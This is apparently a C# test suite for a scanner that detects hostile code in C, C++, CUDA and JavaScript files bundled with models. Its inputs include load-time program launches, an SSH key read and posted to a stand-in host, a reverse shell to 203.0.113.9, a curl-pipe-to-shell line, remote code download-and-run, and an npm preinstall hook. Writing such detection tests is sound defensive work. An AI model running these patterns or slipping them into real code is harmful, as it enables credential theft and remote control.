// What source of C, C++, CUDA and JavaScript does that comes with a model, and when; ordinary kernels and pages stay quiet.
using System.Text;
using Assay.Detection;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;
using Assay.Tests.Scanning;

namespace Assay.Tests.Formats.BracedSources;

public sealed class BracedSourceTests
{
    private static TargetReport Scan(string name, string source) => Scans.Of(Encoding.UTF8.GetBytes(source), name, named: false);

    [Theory]
    [InlineData("a.cpp", "static int warm = []() { return system(\"./canary\"); }();")]
    [InlineData("b.cu", "#define CAT(a, b) a##b\n#define RUN CAT(sys, tem)\n__global__ void k(float* x) { x[0] = 1; }\n__attribute__((constructor)) static void boot(void) { RUN(\"./canary\"); }")]
    [InlineData("c.cpp", "torch::Tensor forward(torch::Tensor x) {\n  auto p = (int(*)(const char*))dlsym(RTLD_DEFAULT, \"sys\" \"tem\");\n  p(\"./canary\");\n  return x;\n}\nTORCH_LIBRARY(my, m) { m.def(\"forward\", forward); }")]
    [InlineData("d.c", "void go(void) { execl(\"/bin/canary\", \"canary\", NULL); }\nstatic void (*init_fn)(void) __attribute__((section(\".init_array\"))) = go;")]
    [InlineData("e.cpp", "struct Loader { Loader() { popen(\"./canary\", \"r\"); } };\nstatic Loader loader;")]
    [InlineData("f.hpp", "class Helper { public: void run() { std::string c = std::string(\"./can\") + \"ary\"; std::system(c.c_str()); } };\nat::Tensor op(at::Tensor x) { Helper h; h.run(); return x; }")]
    [InlineData("g.cpp", "PYBIND11_MODULE(ext, m) { py::module_::import(\"os\").attr(\"system\")(\"./canary\"); }")]
    [InlineData("h.cc", "static struct { int x = system(\"./canary\"); } at_start;\nnamespace n { struct T { T() : a(1) { posix_spawn(0, \"./canary\", 0, 0, 0, 0); } int a; }; static T t; }")]
    public void WhatALibraryStartsWhenItIsLoadedOrUsedIsTold(string name, string source)
    {
        TargetReport report = Scan(name, source);
        Assert.True(report.Verdict is Verdict.Suspicious or Verdict.Malicious, report.Describe());
        Assert.Contains(report.Findings, f => f.Rule.Id is "source-runs-program");
        report.AssertComplete();
    }

    [Theory]
    [InlineData("x.js", "const {exec: e} = require('child_process');\ne(Buffer.from('Li9jYW5hcnk=', 'base64').toString());", "source-runs-decoded")]
    [InlineData("x.mjs", "import fs from 'node:fs';\nimport https from 'https';\nfunction go() {\n  const key = fs.readFileSync(home() + '/.ssh/id_rsa');\n  const r = https.request({host: 'x.example.test', method: 'POST'});\n  r.write(key); r.end();\n}\ngo();", "source-takes-secrets")]
    [InlineData("y.js", "eval(atob('Y29uc29sZS5sb2coMSk='));", "source-runs-decoded")]
    [InlineData("z.cjs", "const net = require('net'), cp = require('child_process');\n(function () { const sh = cp.spawn('/bin/sh', []); const c = new net.Socket(); c.connect(4444, '203.0.113.9', function () { c.pipe(sh.stdin); }); })();", "source-calls-back")]
    [InlineData("w.ts", "require('child_' + 'process')['ex' + 'ecSync'](`curl -s ${'http://203.0.113.9'}/a | sh`);", "shell-download-run")]
    [InlineData("v.js", "const http = require('http');\nhttp.get('http://x.example.test/a.js', r => { let d = ''; r.on('end', () => { new Function(d)(); }); });", "source-downloads-and-runs")]
    public void WhatAScriptHidesOrTakesIsTold(string name, string source, string rule)
    {
        TargetReport report = Scan(name, source);
        Assert.Contains(report.Findings, f => f.Rule.Id == rule);
        report.AssertComplete();
    }

    [Theory]
    [InlineData("g1.cu", "#include <torch/extension.h>\n#define CHECK(x) TORCH_CHECK(x.is_cuda(), #x \" must be on a GPU\")\ntemplate <typename T>\n__global__ void __launch_bounds__(256) k(const T* __restrict__ x, int n) { int i = blockIdx.x * blockDim.x; if (i < n) { asm volatile(\"mov.u32 %0, %laneid;\" : \"=r\"(i)); } }\ntorch::Tensor fwd(torch::Tensor x) { CHECK(x); AT_DISPATCH_FLOATING_TYPES(x.type(), \"fwd\", ([&] { k<T><<<1, 256>>>(x.data<T>(), x.size(0)); })); return x; }\nPYBIND11_MODULE(TORCH_EXTENSION_NAME, m) { m.def(\"fwd\", &fwd, \"fwd (CUDA)\"); }")]
    [InlineData("g2.cpp", "static const bool debug = std::getenv(\"MY_DEBUG\") != nullptr;\nstruct Op { const char* name; int (*fn)(int); };\nstatic int neg(int x) { return -x; }\nstatic const Op ops[] = {{\"neg\", neg}};\nint main(int argc, char** argv) { std::ifstream f(argv[1]); system(\"pause\"); return 0; }")]
    [InlineData("g3.h", "class Log { public: Log(const std::string& p) : out_(p), n_{1} {} void open(); private: std::ofstream out_; int n_; };\ninline void* load(const char* n) { return dlopen(n, RTLD_NOW); }\nenum class E : int { X, Y };")]
    [InlineData("g4.js", "import { pipeline } from '@huggingface/transformers';\nconst re = /[\"'`]/g;\nasync function load() { const res = await fetch(`/api/${re.source}`, { method: 'POST', body: JSON.stringify({ a: 1 }) }); return res.json(); }\ndocument.getElementById('b').addEventListener('click', async () => { re.exec('x'); await load(); });\nconst g = Function('return this')();")]
    [InlineData("g5.js", "const { execSync } = require('child_process');\nconst fs = require('fs'); const path = require('path');\nfunction build() { execSync('npm run build'); fs.writeFileSync(path.join(__dirname, 'out.json'), '{}'); }\nif (require.main === module) { build(); }")]
    [InlineData("g6.ts", "export class A<T> { constructor(private readonly y: string) { super(); } get z(): number { return 1; } async f(a: T): Promise<void> { for (const k of Object.keys(a)) { console.log(`${k}: ${this.y}`); } } }\nexport default { name: 'x', methods: { go() { return 1; } } };")]
    public void OrdinaryKernelsAndScriptsPass(string name, string source)
    {
        TargetReport report = Scan(name, source);
        Assert.True(report.Verdict is Verdict.Passed, report.Describe());
        report.AssertComplete();
    }

    [Theory]
    [InlineData("a.c", "static int x = system(\"./canary\"); /* no end")]
    [InlineData("b.cpp", "}}}) ]; static int x = system(\"./canary\");")]
    [InlineData("c.cpp", "int y = R\"(a\" b)\"; static int x = system(\"./canary\"); char c = '")]
    [InlineData("d.c", "#define A A A\n#define B B B\nA B static int x = system(\"./canary\");")]
    public void BrokenSourceIsReadAsFarAsItGoes(string name, string source) => Assert.Contains(Scan(name, source).Findings, f => f.Rule.Id is "source-runs-program");

    [Theory]
    [InlineData("a.c")]
    [InlineData("a.js")]
    public void DeepAndDoublingSourceEnds(string name)
    {
        StringBuilder source = new();
        for (int i = 0; i < 64; i++)
        {
            source.Append("#define M").Append(i).Append(" M").Append(i + 1).Append(" M").Append(i + 1).Append('\n');
        }

        source.Append("M0\n").Append('(', 20_000).Append('{', 20_000);
        source.Insert(source.Length, "`${", 5_000);
        Assert.NotEqual(Verdict.Malicious, Scan(name, source.ToString()).Verdict);
    }

    [Fact]
    public void AScriptThatAPackageRunsWhenItIsInstalledRunsThen()
    {
        ZipBuilder zip = new();
        zip.Add("package.json", Encoding.UTF8.GetBytes("""{"name": "x", "scripts": {"postinstall": "node tools/setup.js"}}"""));
        zip.Add("tools/setup.js", Encoding.UTF8.GetBytes("const cp = require('child_process');\ncp.execSync('./canary');\n"));
        Finding found = Assert.Single(Scans.Of(zip.Build(), "package.zip").Findings, f => f.Rule.Id is "source-installs-program");
        Assert.Equal("install", found.Phase);
    }

    [Theory]
    [InlineData("""{"name": "x", "scripts": {"preinstall": "node -e \"require('child_process').execSync('./canary')\""}}""", true)]
    [InlineData("""{"name": "x", "scripts": {"build": "node -e \"console.log(1)\"", "install": "node-gyp rebuild"}}""", false)]
    public void CodeOnTheLineOfACommandIsRead(string package, bool isTold) => Assert.Equal(isTold, Scan("package.json", package).Verdict is not Verdict.Passed);
}
